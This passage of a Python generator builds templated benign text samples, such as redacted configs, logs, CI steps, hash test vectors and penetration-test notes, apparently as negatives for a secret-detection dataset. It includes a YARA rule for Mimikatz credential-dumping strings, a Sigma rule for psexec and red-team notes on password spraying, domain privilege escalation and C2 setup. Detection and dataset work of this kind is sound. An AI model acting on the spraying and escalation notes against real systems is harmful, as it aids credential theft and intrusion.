B("BloodHound: «user»@«FQDN» has GenericAll on «svc»@«FQDN» (edge: ForceChangePassword also present)")
B("ProxyLogon check «host»: X-BackEndCookie not reflected — not vulnerable to «cve»")

# --- config ------------------------------------------------------------
B("DB_HOST=«ip»\nDB_USER=«user»\nDB_PASSWORD=${DB_PASSWORD}\nDB_NAME=«db»")
B("  become_password: \"{{ vault_become_password }}\"\n  ansible_user: «user»")
B("password = \"<your-password-here>\"   # set via TF_VAR_password")
B("shodan:\n  api_key: xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
B("AWS_SECRET_ACCESS_KEY=****************************************")
B("env:\n  - name: DB_PASS\n    valueFrom:\n      secretKeyRef:\n        name: «word»-db\n        key: password")
B("[database]\nhost = «host».«fqdn»\npassword_file = /run/secrets/db_password")
B("spring.datasource.password=${SPRING_DATASOURCE_PASSWORD:}")
B("[«slug»]\naws_access_key_id = REDACTED\naws_secret_access_key = REDACTED")
B("network={\n    ssid=\"«ssid»\"\n    psk=\"CHANGEME\"\n}")
B("ssl_certificate     /etc/ssl/certs/«host».pem;\nssl_certificate_key /etc/ssl/private/«host».key;")
B("Host «host»\n  HostName «ip»\n  User «user»\n  IdentityFile ~/.ssh/«slug»_ed25519\n  ProxyJump jump01")
B("[Peer]\nPublicKey = «bs43»=\nAllowedIPs = 10.66.0.0/24\nEndpoint = «eip»:51820")
B("PasswordAuthentication no\nPermitRootLogin prohibit-password\nPubkeyAuthentication yes")
B("password_policy:\n  min_length: 14\n  require_mfa: true\n  max_age_days: 0\n  breached_password_check: enabled")
B("kms_key_id = \"arn:aws:kms:eu-west-1:«dig12»:key/«uuid»\"")
B("oauth:\n  client_id: «uuid»\n  client_secret_ref: vault:secret/data/«word»/oauth#client_secret")
B("STRIPE_PUBLISHABLE_KEY=pk_live_«an24»   # publishable key, safe for the browser")
B("SENTRY_DSN=https://«hex32»@o«dig6».ingest.sentry.io/«dig7»")
B("\"node_modules/«word»\": {\n  \"version\": \"«ver»\",\n  \"integrity\": \"sha512-«bs86»==\"\n}")
B("github.com/«slug»/«word» v«ver» h1:«bs43»=")
B("[[package]]\nname = \"«word»\"\nversion = \"«ver»\"\nchecksum = \"«hex64»\"")
B("«word»==«ver» \\\n    --hash=sha256:«hex64»")
B("image: registry.«webdom»/«word»@sha256:«hex64»")
B("db_password: ENC[AES256_GCM,data:«bs24»,iv:«bs43»=,tag:«bs22»==,type:str]")
B("$ANSIBLE_VAULT;1.1;AES256\n«hex64»\n«hex64_2»\n«hex40»")
B("encryptedData:\n  password: AgB«bs120»")
B("IdentityAgent ~/.1password/agent.sock")
B("credential.helper=osxkeychain\nuser.signingkey=«HEX16»")
B("auth_method = kerberos\nkeytab_path = /etc/krb5.keytab\nprincipal = HTTP/«host».«fqdn»@«FQDN»")
B("cpassword=\"\"   # empty cpassword attribute: GPP item without a stored password")
B("[wifi-security]\nkey-mgmt=wpa-eap\n[802-1x]\neap=tls;\nidentity=«host»$\nclient-cert=/etc/pki/«host».pem")
B("teamserver_profile: profiles/jquery-c2.4.9.profile\nteamserver_password_ref: op://RedTeam/CS-«slug»/password")
B("admin_server:\n  listen_url: 127.0.0.1:3333\n  use_tls: true\n  cert_path: gophish_admin.crt\n  key_path: gophish_admin.key")
B("sliver:\n  operators_dir: ~/.sliver-client/configs\n  mtls_lport: 8888\n  # operator configs are distributed out-of-band, never committed")
B("<add key=\"ClearTextPassword\" value=\"%NUGET_FEED_PASSWORD%\" />")
B("<password>${env.MAVEN_REPO_PASSWORD}</password>")
B("requirepass \"\"   # auth disabled on the lab instance, bound to 127.0.0.1 only")
B("hostapd: wpa_passphrase is set from /etc/hostapd/psk.d/«ssid» (root:root 0600)")

# --- source code -------------------------------------------------------
B("password = os.environ[\"DB_PASSWORD\"]")
B("token = os.getenv(\"GITHUB_TOKEN\", \"\")\nif not token:\n    sys.exit(\"set GITHUB_TOKEN\")")
B("const apiKey = process.env.SHODAN_API_KEY ?? '';")
B("if not re.match(r'^(?=.*\\d)(?=.*[A-Z])(?=.*[^\\w]).{12,}$', password):\n    raise ValueError('password does not meet policy')")
B("hashed = bcrypt.hashpw(password.encode(), bcrypt.gensalt(rounds=12))")
B("def verify(stored_hash: bytes, candidate: str) -> bool:\n    return hmac.compare_digest(stored_hash, derive(candidate))")
B("cache_key = hashlib.sha1(url.encode()).hexdigest()  # e.g. «hex40»")
B("PASSWORD_FIELD = \"password\"\nTOKEN_HEADER = \"X-Auth-Token\"")
B("NT_EMPTY = \"31d6cfe0d16ae931b73c59d7e0c089c0\"  # NT hash of the empty password, used to skip blank accounts")
B("LM_EMPTY = \"aad3b435b51404eeaad3b435b51404ee\"")
B("password := viper.GetString(\"db.password\")")
B("var secret = await client.GetSecretAsync(\"sql-admin\");")
B("$cred = Get-Credential -Message 'Enter domain credentials for «fqdn»'")
B("$pw = Read-Host -Prompt 'Password' -AsSecureString")
B("rule HackTool_Mimikatz_Strings {\n  strings:\n    $s1 = \"sekurlsa::logonpasswords\" ascii wide\n    $s2 = \"lsadump::dcsync\" ascii wide\n  condition: any of them\n}")
B("detection:\n  selection:\n    CommandLine|contains|all: [' -p ', 'psexec']\n  condition: selection\nlevel: high")
B("request_id = str(uuid.uuid4())  # «uuid»")
B("SALT_LEN = 16\nITERATIONS = 600_000  # PBKDF2-HMAC-SHA256 per OWASP 2023")
B("assert hashlib.sha256(b'').hexdigest() == '%s'" % _sha256(""))
B("EXAMPLE_KEY_ID = 'AKIAIOSFODNN7EXAMPLE'  # from the AWS docs, used in unit tests")
B("EXAMPLE_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'  # AWS documentation sample")
B("headers = {\"Authorization\": f\"Bearer {self._token}\"}")
B("parser.add_argument('-p', '--password', help='password (or set PT_PASSWORD)')")
B("parser.add_argument('-H', '--hashes', metavar='LMHASH:NTHASH', help='NTLM hashes, format is LMHASH:NTHASH')")
B("conn = psycopg2.connect(dsn=os.environ['DATABASE_URL'])")
B("mask = lambda s: s[:4] + '*' * (len(s) - 8) + s[-4:]")
B("ETH_ADDRESS = '0x«hex40»'  # public receive address for the bounty payout")
B("BTC_ADDR = '«btc»'")
B("ONION = '«onion».onion'  # leak-site mirror referenced in the TI report")

# --- logs ---------------------------------------------------------------
B("«ts» INFO request_id=«uuid» trace_id=«hex32» span_id=«hex16» status=200 path=/api/v1/health")
B("«ts» DEBUG outbound GET https://api.«webdom»/v1/users headers={'Authorization': 'Bearer [REDACTED]'}")
B("«ts» WARN login attempt user=«user» password=******** result=failure reason=bad_password")
B("Mar 14 «time» «host» sshd[«num»]: Failed password for invalid user admin from «ip» port «num» ssh2")
B("Mar 14 «time» «host» sshd[«num»]: Accepted publickey for «user» from «ip» port 51234 ssh2: ED25519 SHA256:«bs43»")
B("EventID 4625: An account failed to log on. Account Name: «user» Failure Reason: Unknown user name or bad password. Logon Type: 3")
B("EventID 4769: A Kerberos service ticket was requested. Service Name: «svc» Ticket Encryption Type: 0x17")
B("2025-03-14T«time».0000000Z Run docker login -u *** -p *** registry.«webdom»")
B("vault: token accessor «bu24» renewed, ttl=768h")
B("«ip» - - [14/Mar/2025:«time» +0000] \"GET /reset-password?token=[FILTERED] HTTP/1.1\" 302 0")
B("  Parameters: {\"user\"=>{\"email\"=>\"«email»\", \"password\"=>\"[FILTERED]\"}, \"commit\"=>\"Log in\"}")
B("{\"eventName\":\"GetSecretValue\",\"requestParameters\":{\"secretId\":\"prod/«word»/db\"},\"responseElements\":null,\"sourceIPAddress\":\"«eip»\"}")
B("https://«slug»-reports.s3.amazonaws.com/final.pdf?X-Amz-Signature=<redacted>&X-Amz-Expires=3600")
B("cf-ray: «hex16»-FRA\netag: \"«hex32»\"\nx-request-id: «uuid»")
B("javax.crypto.BadPaddingException: Given final block not properly padded. Such issues can arise if a bad key is used during decryption.")
B("psycopg2.OperationalError: connection to server at \"«ip»\", port 5432 failed: FATAL:  password authentication failed for user \"«user»\"")
B("sqlalchemy.engine.Engine connect postgresql://«user»:***@«host»:5432/«db»")
B("Mar 14 «time» «host» sshd[«num»]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=«ip»  user=root")
B("KDC_ERR_PREAUTH_FAILED: «user»@«FQDN» — wrong password (attempt 2/5)")
B("ms-Mcs-AdmPwdExpirationTime: 1338«dig14»")
B("java.lang.IllegalStateException: Missing required property 'spring.datasource.password'")
B("Error: getaddrinfo ENOTFOUND vault.«fqdn» — could not fetch secret 'c2/teamserver'")
B("level=warn msg=\"password field present in request body but not logged\" route=/login")
B("[GIN] «date» - «time» | 401 |     1.2ms | «ip» | POST \"/api/token\"")
B("WARNING: Using a password on the command line interface can be insecure.")
B("npm ERR! 401 Unauthorized - authentication token not provided")
B("Error response from daemon: Get \"https://registry.«webdom»/v2/\": unauthorized: incorrect username or password")
B("remote: Invalid username or password.\nfatal: Authentication failed for 'https://git.«webdom»/«slug»/infra.git/'")
B("«ts» level=info msg=\"rotated signing key\" kid=«hex16» alg=ES256")
B("WARN: certificate for «host».«fqdn» expires in 12 days (serial «HEX32»)")
B("«ts» audit: user=«user» action=secret.read path=kv/«slug»/c2 result=allowed (value not logged)")

# --- notes / chat -------------------------------------------------------
B("Reminder: never paste creds in Slack; use the engagement vault (1Password vault «slug»-PT).")
B("Password policy at «client»: min 12 chars, 3 of 4 classes, lockout after 5 attempts in 30 min → spray max 3 per window.")
B("Finding «ticket»: password reuse between local administrator accounts (values redacted; see appendix C in the encrypted report).")
B("Cracked «num» of 1880 NT hashes (21.9%) in 6h; top base words: company name, seasons, football clubs. Plaintexts kept in the vault only.")
B("Creds are in KeePass entry «client»/Domain/«user» — not copying them into notes.")
B("«cve» (Zerologon-style) resets the DC machine account password to an empty string; we did NOT run it in production.")
B("CVE-2020-1472 description: an elevation of privilege vulnerability exists when an attacker establishes a vulnerable Netlogon secure channel connection.")
B("CVE-2019-1040: NTLM MIC bypass allowing relay from SMB to LDAP(S); mitigated by LDAP signing + channel binding.")
B("«cve»: hard-coded credentials in the web management interface of the «word» router allow remote login (CVSS 9.8).")
B("GOAL: obtain Domain Admin without touching LSASS on EDR-protected hosts; prefer ADCS and delegation abuse.")
B("Decision: the AWS key AKIAIOSFODNN7EXAMPLE in the README is the public docs sample — reporting as informational only.")
B("«person»: das Passwort wurde zurückgesetzt, das neue liegt im Tresor unter «slug»/svc.")
B("«person»: le mot de passe est dans le coffre KeePass, pas dans le canal.")
B("«person»: パスワードは別途電話でお伝えします。")
B("«person»: 密码已经通过电话告知，这里不记录。")
B("«person»: la contraseña la mando por Signal, no por correo.")
B("«person»: пароль в хранилище, ссылку скину в личку.")
B("WPA2 PSK must be 8–63 characters; the guest PSK rotates weekly and lives in the UniFi controller.")
B("Triage: duplicate of #«dig6»; the leaked Stripe key (last 4: «an4») was already rolled by the program.")
B("The token ending in …«an4» was revoked at «time» UTC; no further action needed.")
B("Note: hashes in loot/«slug»_ntds.ntlm are for offline cracking only; file is on the encrypted volume.")
B("«person»: use your own SSO login for the Gophish console, shared accounts are disabled now.")
B("Bug bounty write-up: the API returned `\"password_hash\": \"$2b$12$…\"` (truncated in report) for other users → excessive data exposure.")
B("Retest «date»: MFA now enforced on OWA; password spray with the «client» lockout policy produced 0 valid logins.")
B("We store C2 operator configs in Vault at secret/redteam/«word»/operators/<name>, one per operator.")
B("Checklist: [x] rotate teamserver password after engagement [x] destroy redirectors [ ] wipe Gophish DB")
B("Client asked what a 'pass-the-hash' is: you authenticate with the NT hash instead of the plaintext password.")
B("Kickoff notes: test accounts will be provided by phone on day 1; do not email them.")
B("hashcat example for mode 5600 is in the hashcat wiki; we only crack NetNTLMv2 from in-scope hosts.")
B("Public test vector: NTLM(\"password\") = 8846f7eaee8fb117ad06bdd830b7586c — used to sanity-check the cracking rig.")
B("Sanity check: LM hash aad3b435b51404eeaad3b435b51404ee means LM storage is disabled, not a blank password.")
B("PSK was NOT recovered (rockyou + 3 rule sets); recommending WPA3-SAE anyway.")
B("«person»: the pw for the lab VM is the usual one from the team vault, don't ask here 🙂")
B("Team rule: paste only the first 4 chars of any secret, e.g. 'ghp_Ab…' or 'AKIA…', when discussing it.")
B("Tip: ${VAR} placeholders in .env.example are not findings; check the real .env only if it's in the repo history.")

# --- CI ----------------------------------------------------------------
B("      - run: aws s3 sync dist/ s3://«slug»-site\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}")
B("  with:\n    username: ${{ github.actor }}\n    password: ${{ secrets.GITHUB_TOKEN }}")
B("script:\n  - docker login -u gitlab-ci-token -p $CI_JOB_TOKEN $CI_REGISTRY")
B("withCredentials([usernamePassword(credentialsId: '«word»-deploy', usernameVariable: 'U', passwordVariable: 'P')]) {\n  sh 'deploy.sh'\n}")
B("VAULT_TOKEN=$(vault write -field=token auth/approle/login role_id=$ROLE_ID secret_id=$SECRET_ID)")
B("  # password = (sensitive value)\n  ~ password = (sensitive value)")
B("data:\n  password: <redacted>\n  username: «b64txt»")
B("env:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n  HF_TOKEN: ${{ secrets.HF_TOKEN }}")
B("- name: Configure AWS credentials\n  uses: aws-actions/configure-aws-credentials@v4\n  with:\n    role-to-assume: arn:aws:iam::«dig12»:role/gha-deploy\n    aws-region: eu-west-1")
B("helm upgrade --install «word» ./chart --set-file tls.key=/run/secrets/tls.key --set image.tag=«sha»")
B("terraform apply -var-file=prod.tfvars   # db_password comes from TF_VAR_db_password in CI")
B("kubectl create secret generic «word»-tls --from-file=tls.crt --from-file=tls.key --dry-run=client -o yaml")
B("ssh-keyscan -t ed25519 «host».«fqdn» >> ~/.ssh/known_hosts")
B("echo \"$SSH_PRIVATE_KEY\" | tr -d '\\r' | ssh-add -")
B("Pipeline «num» passed: 14 jobs, artifacts sha256:«hex64»")
B("sealed-secrets: kubeseal --controller-namespace kube-system --format yaml < secret.yaml > sealed-«word».yaml")
B("cosign verify --key cosign.pub registry.«webdom»/«word»@sha256:«hex64»")
B("export TF_VAR_do_token=\"$(pass show infra/digitalocean)\"")
B("gh secret list --repo «slug»/infra\nAWS_SECRET_ACCESS_KEY  Updated «date»\nSLACK_WEBHOOK  Updated «date»")
B("::add-mask::$DB_PASSWORD")

# --- vendor-ish identifiers (public or placeholders) ----------------------
B("GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx  # placeholder in .env.example")
B("OPENAI_API_KEY=sk-...REDACTED...")
B("SLACK_BOT_TOKEN=xoxb-your-bot-token-here")
B("GOOGLE_MAPS_KEY=<your-google-maps-key>")
B("Slack team id T«up9», channel id C«up10», user id U«up10»")
B("Twilio Account SID AC«hex32» (the SID is an identifier; the auth token is in Vault)")
B("Stripe objects: cus_«an14», pi_«an24», ch_«an24»")
B("client_id: «dig12»-«low32».apps.googleusercontent.com")
B("AZURE_TENANT_ID=«uuid»\nAZURE_SUBSCRIPTION_ID=«uuid_2»")
B("Role ARN arn:aws:iam::«dig12»:role/«word»-readonly, unique id AROA«bt17»")
B("Key-Pair-Id=K«up13» (CloudFront public key id)")
B("age recipient: age1«bech»")
B("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ«bs120» «user»@«host»")
B("GPG fingerprint «HEX4» «HEX4_2» «HEX4_3» «HEX4_4» «HEX4_5»  «HEX4_6» «HEX4_7» «HEX4_8» «HEX4_9» «HEX4_10»")
B("Datadog API key: ••••••••••••••••••••••••••••«hex4»")
B("npm token: npm_****************************«an4» (read-only, created «date»)")
B("sk_live_…«an4» — rolled")
B("Authorization: Basic <base64(user:password)>")
B("Authorization: Bearer {{token}}")
B("X-API-Key: $SHODAN_API_KEY")
B("hvs.XXXXXXXXXXXXXXXXXXXXXXXX")
B("-----BEGIN OPENSSH PRIVATE KEY-----\n<omitted>\n-----END OPENSSH PRIVATE KEY-----")
B("-----BEGIN RSA PRIVATE KEY-----\n[REDACTED 1675 bytes]\n-----END RSA PRIVATE KEY-----")
B("DefaultEndpointsProtocol=https;AccountName=«slug»stor;AccountKey=<from-keyvault>;EndpointSuffix=core.windows.net")
B("mongodb+srv://<user>:<password>@cluster0.«slug».mongo.test/«db»")
B("postgresql://«user»@«host».«fqdn»:5432/«db»?sslmode=verify-full")
B("https://«user»:********@git.«webdom»/«slug»/tools.git")
B("Credential Manager: target=TERMSRV/«host», user=«dom»\\«user», password=<not displayed>")
B("HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Basic realm=\"«client» Admin\"")
B("Set-Cookie: session=deleted; expires=Thu, 01 Jan 1970 00:00:00 GMT; Path=/")
B("csrf_token field present; value rotates per request (observed «num» distinct values)")
B("x-amz-request-id: «HEX16»\nx-amz-id-2: «bs76»=")
B("Content-MD5: «bs22»==")

for _plain, _label in _TV:
    B("test vector MD5(%s) = %s" % (_label, _md5(_plain)))
    B("sha1(\"%s\") -> %s  # known answer test" % (_plain, _sha1(_plain)))
    B("SHA-256 of %s: %s (used as a fixture, not a secret)" % (_label, _sha256(_plain)))
B("md5 of the literal word 'password' is %s — the first thing every cracking tutorial shows" % _md5("password"))
B("hashcat -m 0 example: %s:hashcat" % _md5("hashcat"))
B("cache/%s.json  # key = sha256(request url)" % _sha256("https://intel.example/v1/feeds?page=1"))
B("ETag: W/\"%s\"" % _sha1("static/app.bundle.js"))

# ======================================================================
# assembly
# ======================================================================
_GROUPS = ["command", "tool-output", "config-file", "source-code",
           "stack-trace-or-log", "note-or-chat", "ci-and-deploy", "vendor-token"]
_PER_GROUP = 187
_BENIGN_TARGET = 950


def _make(fmt, used):
    group, name, ttext, tsec, tvis, pre = fmt
    for _attempt in range(200):
        c = _Ctx()
        if pre is not None:
            pre(c)
        text = _render(ttext, c)
        sec = _render(tsec, c)
        vis = _render(tvis, c)
        if len(sec) < 6 or sec in used or sec not in text:
            continue
        if vis and (vis not in text or sec in vis or vis not in text.replace(sec, "\u0000")):
            continue
        used.add(sec)
        return (group, name, text, sec, vis)
    raise RuntimeError("could not instantiate format " + name)


def _build_secrets():
    out = []
    used = set()
    for g in _GROUPS:
        fmts = [f for f in _FORMATS if f[0] == g]
        uses = [3] * len(fmts)
        i = len(fmts) - 1
        while sum(uses) > _PER_GROUP and i >= 0:
            uses[i] = 2
            i -= 1
        for f, n in zip(fmts, uses):
            for _k in range(n):
                out.append(_make(f, used))
    return out


def _build_benign(secrets):
    seen = set()
    out = []
    long_secrets = [s for s in secrets if len(s) >= 8]
    for _round in range(30):
        for t in _B:
            if len(out) >= _BENIGN_TARGET:
                return out
            text = _render(t, _Ctx())
            if text in seen or u"\u00ab" in text:
                continue
            if any(s in text for s in long_secrets):
                continue
            seen.add(text)
            out.append(text)
    return out


SECRETS = _build_secrets()
BENIGN = _build_benign([e[3] for e in SECRETS])
